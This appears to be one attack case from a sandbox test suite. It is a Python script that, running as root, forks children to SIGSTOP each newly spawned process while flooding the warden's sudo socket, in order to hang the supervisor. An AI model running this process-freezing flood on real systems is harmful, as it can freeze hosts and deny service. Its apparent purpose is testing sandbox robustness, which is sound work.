# attack: the warden held up by stopping what it starts
# family: 15
# runs: root
# stopped-by: design
# needs: sudo
# then: read /etc/hostname
#
# A process that is stopped between its making and its first instruction: whoever waits for it there waits for ever,
# and the host with him. Root inside stops every new process at once while the warden is asked for more.
import os
import signal
import socket
import struct
import time


def _stopper(own):
    """Stops whatever appears, except us."""
    deadline = time.monotonic() + 2
    newest = max(own)
    while time.monotonic() < deadline:
        for pid in range(newest + 1, newest + 40):
            if pid in own:
                continue
            try:
                os.kill(pid, signal.SIGSTOP)
                newest = max(newest, pid)
            except OSError:
                pass
    os._exit(0)


def _request():
    strings = b"/\0/bin/true\0"
    return struct.pack("<IHHHHIIIIiII", 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0) + strings


def _sudo(null):
    with socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET) as peer:
        peer.settimeout(0.5)
        peer.connect("/run/belljar/sudo.sock")
        socket.send_fds(peer, [_request()], [null, null, null])
        peer.recv(4096)


def attack():
    null = os.open("/dev/null", os.O_RDWR)
    own = {os.getpid()}
    stoppers = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            time.sleep(0.05)
            _stopper(own | {os.getpid(), os.getpid() + 1, os.getpid() + 2})
        stoppers.append(pid)
        own.add(pid)
    time.sleep(0.1)
    answered = 0
    for _ in range(60):
        try:
            _sudo(null)
            answered += 1
        except OSError:
            pass
    for pid in stoppers:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return f"HELD: the warden answered {answered} of 60; the host asks now"


if __name__ == "__main__":
    verdict = attack()
    print(verdict)
    raise SystemExit({"HELD": 0, "ESCAPED": 42}.get(verdict.split(":")[0], 43))
